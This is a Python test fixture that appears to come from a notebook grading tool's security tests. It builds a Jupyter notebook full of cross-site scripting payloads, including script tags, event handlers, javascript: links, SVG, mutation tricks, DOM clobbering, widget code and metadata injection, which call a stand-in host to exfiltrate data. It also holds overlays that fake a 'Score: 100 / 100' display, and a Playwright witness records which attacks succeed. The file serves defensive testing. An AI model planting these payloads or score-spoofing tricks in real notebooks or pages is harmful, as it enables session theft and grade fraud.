# ruff: noqa: E501, SIM905  (an attack is easier to read in one line)
"""A notebook with everything that could run a script in the page of whoever opens it, each with a name of its own.

Each attack runs `payload(name)`, which tries to leave the name where `Witness` finds it: in the page, in a request, in
a dialog, or in another window.
"""

import base64
from html import escape
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

FAR = "http://elsewhere.example"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def payload(name: str) -> str:
    """A script, without quotation marks, that leaves a name wherever it can."""
    tries = [
        f"top.__pwned=(top.__pwned||``)+` {name} `",
        f"parent.__pwned=(parent.__pwned||``)+` {name} `",
        f"parent.document.title=`PWNED {name}`",
        f"fetch(`/formgrader/api/grades?pwned={name}`,{{credentials:`include`}}).catch(()=>0)",
        f"fetch(`{FAR}/pwned/{name}`,{{mode:`no-cors`}}).catch(()=>0)",
        f"new Image().src=`{FAR}/pwned/{name}`",
        f"navigator.sendBeacon(`{FAR}/pwned/{name}`)",
        f"window.open(`{FAR}/pwned/{name}`)",
        f"parent.postMessage({{oxusHeight:`1e9`,name:`{name}`}},`*`)",
        f"top.location=`{FAR}/pwned/{name}`",
        # A script from elsewhere, with the page's own number.
        f"const s=document.createElement(`script`);s.nonce=document.currentScript.nonce;s.src=`{FAR}/pwned/{name}`;"
        "document.head.append(s)",
        f"alert(`{name}`)",
        f"location=`{FAR}/pwned/{name}`",
    ]
    return ";".join(f"try{{{one}}}catch(e){{}}" for one in tries)


def script(name: str) -> str:
    return f"<script>{payload(name)}</script>"


def handler(name: str) -> str:
    return f'<img src=x onerror="{payload(name)}">'


def data_url(name: str) -> str:
    return "data:text/html;base64," + base64.b64encode(script(name).encode()).decode()


SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{payload("{0}")}"><script>{payload("{0}")}</script>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{handler("{0}")}</body></foreignObject>'
    f'<a href="javascript:{payload("{0}")}"><text>x</text></a><image href="{FAR}/pwned/{{0}}" /></svg>'
)


def svg(name: str) -> str:
    return SVG.replace("{0}", name)


MARKDOWN = {
    "md-script": script("md-script"),
    "md-handler": handler("md-handler"),
    "md-svg": svg("md-svg"),
    "md-link": f"[a](javascript:{payload('md-link').replace(' ', '')}) [b](files/javascript:{payload('md-link').replace(' ', '')})",
    "md-html-link": f'<a class="tabbable" href="jAva&#10;script:{payload("md-html-link")}">click</a>',
    "md-data-link": f'<a href="{data_url("md-data-link")}">click</a>',
    "md-refresh": f'<meta http-equiv="refresh" content="0;url={FAR}/pwned/md-refresh">',
    "md-base": f'<base href="{FAR}/pwned/md-base/">',
    "md-iframe": f'<iframe srcdoc="{escape(script("md-iframe"))}"></iframe><iframe src="{data_url("md-iframe")}"></iframe>',
    "md-object": f'<object data="{data_url("md-object")}"></object><embed src="{data_url("md-object")}">',
    "md-style": "<style>@import url("
    + FAR
    + "/pwned/md-style); p { background: url("
    + FAR
    + "/pwned/md-style) }</style>",
    "md-inline-style": f'<p style="background: url({FAR}/pwned/md-inline-style)">x</p>',
    "md-form": f'<form action="{FAR}/pwned/md-form"><button>x</button></form><form><input name=x autofocus onfocus="{payload("md-form")}"></form>',
    "md-details": f'<details open ontoggle="{payload("md-details")}"><summary>x</summary>y</details>',
    "md-math-handler": "$\\text{<img src=x onerror=" + payload("md-math-handler").replace(" ", "") + ">}$",
    "md-math-script": "$\\text{&lt;script&gt;" + payload("md-math-script") + "&lt;/script&gt;}$",
    "md-math-link": f"$\\href{{javascript:{payload('md-math-link')}}}{{x}}$",
    "md-math-alt": '![$\\text{" onerror=' + payload("md-math-alt").replace(" ", "") + " x=}$](missing.png)",
    "md-mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={payload("md-mutation")}&gt;">',
    "md-noscript": f'<noscript><p title="</noscript>{escape(handler("md-noscript"))}">',
    "md-template": f"<template>{script('md-template')}</template><textarea></textarea>{handler('md-template')}",
    "md-clobber": f'<a id="formgrader"></a><form id="MathJax" name="base_url"></form><p id="test_double" class="score nbgrader_cell">{handler("md-clobber")}</p>',
    "md-dangling": f"<img src='{FAR}/pwned/md-dangling?",
    "md-preload": f'<link rel="stylesheet" href="{FAR}/pwned/md-preload"><link rel="prefetch" href="{FAR}/pwned/md-preload"><video poster="{FAR}/pwned/md-preload"><source src="{FAR}/pwned/md-preload"></video>',
    "md-fence": '```python"><img src=x onerror=' + payload("md-fence").replace(" ", "") + ">\nx\n```",
    "md-frames": "<frameset><frame src='javascript:" + payload("md-frames") + "'></frameset>",
    "md-logout": '<img src="/logout?pwned=md-logout"><img src="/formgrader/api/grades?pwned=md-logout">',
}


def _data(name: str, bundle: dict[str, Any], **metadata: Any) -> NotebookNode:
    return new_code_cell(f"# {name}", outputs=[new_output("display_data", bundle, metadata=metadata)])


def _widgets() -> dict[str, Any]:
    """Models that notebooks save: one with code of its own, and one with HTML."""
    view = "export default { render() {" + payload("widget-esm") + "} }"
    return {
        "esm": {
            "model_module": "anywidget",
            "model_name": "AnyModel",
            "model_module_version": "0.9",
            "state": {"_model_name": "AnyModel", "_esm": view, "_view_module": "anywidget"},
        },
        "words": {
            "model_module": "@jupyter-widgets/controls",
            "model_name": "HTMLModel",
            "model_module_version": "2.0",
            "state": {"_model_name": "HTMLModel", "value": handler("widget-html")},
        },
        "end": {
            "model_module": "@jupyter-widgets/controls",
            "model_name": "LabelModel",
            "model_module_version": "2.0",
            "state": {"_model_name": "LabelModel", "value": "</script>" + handler("widget-end")},
        },
    }


def _cells() -> list[NotebookNode]:
    view = "application/vnd.jupyter.widget-view+json"
    odd = new_code_cell("x = 1", execution_count=1)
    odd.execution_count = handler("count")
    odd.id = f'"><script>{payload("cell-id")}</script>'
    odd.metadata = NotebookNode(
        tags=[f'"><script>{payload("tags")}</script>'],
        magics_language=f'"><script>{payload("magics")}</script>',
        collapsed=handler("collapsed"),
    )
    named = new_code_cell("y = 2")
    named.metadata = NotebookNode(
        nbgrader=dict(
            grade=True,
            solution=True,
            locked=False,
            task=False,
            schema_version=3,
            points=handler("points"),
            grade_id=f'"><script>{payload("grade-id")}</script>',
            comment=handler("comment"),
            score=handler("score"),
        )
    )
    attached = new_markdown_cell("![a](attachment:a.png)")
    attached.attachments = {
        "a.png": {"image/svg+xml": f'"><script>{payload("attachment")}</script>', 'x"><script>': "1"}
    }
    raw = new_raw_cell(script("raw"), metadata={"raw_mimetype": "text/html", "format": "text/html"})
    return [
        raw,
        attached,
        _data("html-script", {"text/html": script("html-script")}),
        _data(
            "html-handler",
            {"text/html": f"<table><tr><td onclick=1>{handler('html-handler')}</td></tr></table>"},
        ),
        _data("html-isolated", {"text/html": script("html-isolated")}, **{"text/html": {"isolated": True}}),
        _data(
            "html-break",
            {"text/html": f"--></iframe>\"'></script></style></body></html>{script('html-break')}"},
        ),
        _data(
            "html-refresh",
            {"text/html": f'<meta http-equiv="refresh" content="0;url={FAR}/pwned/html-refresh">'},
        ),
        _data(
            "html-frame",
            {
                "text/html": f'<iframe src="{FAR}/pwned/html-frame"></iframe><iframe src="/lab?pwned=html-frame"></iframe><iframe srcdoc="{escape(script("html-frame"))}"></iframe>'
            },
        ),
        _data(
            "html-form",
            {
                "text/html": f'<form id=f action="{FAR}/pwned/html-form" target=_top></form><script>f.submit()</script>'
            },
        ),
        _data(
            "html-link",
            {
                "text/html": f'<script></script><a id=g target=_top href="{FAR}/pwned/html-link">x</a><script>g.click()</script>'
            },
        ),
        _data("svg", {"image/svg+xml": svg("svg")}),
        _data("javascript", {"application/javascript": payload("javascript"), "text/plain": "js"}),
        _data("mermaid", {"text/vnd.mermaid": f"</pre>{script('mermaid')}"}),
        _data("markdown", {"text/markdown": script("markdown") + handler("markdown")}),
        _data(
            "latex",
            {"text/latex": f"$\\text{{{handler('latex')}}} \\href{{javascript:{payload('latex')}}}{{x}}$"},
        ),
        _data("latex-html", {"text/latex": script("latex-html")}),
        _data("png", {"image/png": f'"><script>{payload("png")}</script>'}),
        _data(
            "png-size",
            {"image/png": PNG},
            **{
                "image/png": {
                    "width": f'"><script>{payload("png-size")}</script>',
                    "alt": f'"><script>{payload("png-size")}</script>',
                }
            },
        ),
        _data("plain", {"text/plain": f"\x1b[31m{script('plain')}\x1b[0m"}),
        _data("json", {"application/json": {"a": script("json")}, script("mime"): "x"}),
        *(
            _data(f"view-{name}", {view: {"model_id": name, "version_major": 2}, "text/plain": "a widget"})
            for name in _widgets()
        ),
        _data(
            "view-id", {view: {"model_id": f"</script>{script('view-id')}"}, "text/html": script("view-html")}
        ),
        new_code_cell(
            "# streams",
            outputs=[
                new_output(
                    "stream",
                    name="stdout",
                    text=script("stream") + '\x1b]8;;javascript:alert(1)\x07x\x1b[38;5;999;"><script>m',
                ),
                new_output(
                    "error",
                    ename=script("ename"),
                    evalue=handler("evalue"),
                    traceback=[f"\x1b[31m{script('traceback')}", handler("traceback")],
                ),
            ],
        ),
        odd,
        named,
    ]


def _mimicry() -> list[NotebookNode]:
    """Attempts to cover the points, or to change how they look."""
    over = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:white;margin-top:-3000px"
    return [
        new_markdown_cell(f'<div style="{over}" class="navbar-fixed-top oxus-total">Score: 100 / 100</div>'),
        new_markdown_cell("<style>.oxus-total, .score { display: none } </style>"),
        _data("style", {"text/html": "<style>.oxus-total, input.score { display: none !important }</style>"}),
        _data(
            "cover",
            {
                "text/html": f'<div style="{over}">Score: 100 / 100</div><script>document.body.style.cssText="{over}"</script>'
            },
        ),
    ]


def attack_notebook() -> NotebookNode:
    """The cells of all attacks; their names are in `NAMES`."""
    cells = [*map(new_markdown_cell, MARKDOWN.values()), *_cells(), *_mimicry()]
    notebook = NotebookNode(nbformat=4, nbformat_minor=5, cells=cells)  # not all of it follows the format
    evil = f'"><script>{payload("metadata")}</script>'
    notebook.metadata = NotebookNode(
        title=evil,
        language_info={"name": evil, "pygments_lexer": evil},
        kernelspec={"name": evil, "display_name": evil, "language": evil},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": _widgets(), "version_major": 2}},
    )
    return notebook


NAMES = [
    *MARKDOWN,
    *"raw attachment html-script html-handler html-isolated html-break html-refresh html-frame html-form html-link svg".split(),
    *"javascript mermaid markdown latex latex-html png png-size plain json mime widget-esm widget-html widget-end".split(),
    *"view-id view-html stream ename evalue traceback count cell-id tags magics collapsed points grade-id comment".split(),
    *"score metadata file-name student-name".split(),
]


class Witness:
    """Sees whatever an attack achieves in a page.

    Parameters
    ----------
    page : playwright Page
        Before it opens anything.
    """

    def __init__(self, page: Any) -> None:
        self.page = page
        self.seen: list[str] = []
        self.requests: list[Any] = []
        self.writes: list[str] = []
        page.context.on("request", self._request)
        page.context.on("page", lambda other: self.seen.append(f"window {other.url}"))
        page.on("dialog", self._dialog)

    def _request(self, request: Any) -> None:
        if "pwned" in request.url:
            self.requests.append(request)
        if request.method != "GET":
            self.writes.append(f"{request.method} {request.url}")

    def _dialog(self, dialog: Any) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def report(self) -> dict[str, list[str]]:
        """What each attack achieved; empty for one that failed."""
        left = self.page.evaluate("() => [window.__pwned || '', document.title, location.href].join(' ')")
        sent = [f"request {one.url}" for one in self.requests if one.failure != "csp"]
        everything = [*self.seen, *sent, *(f"page {word}" for word in left.split())]
        return {
            name: [one for one in everything if name in one.replace("/", " ").replace("=", " ").split()[1:]]
            for name in NAMES
        }
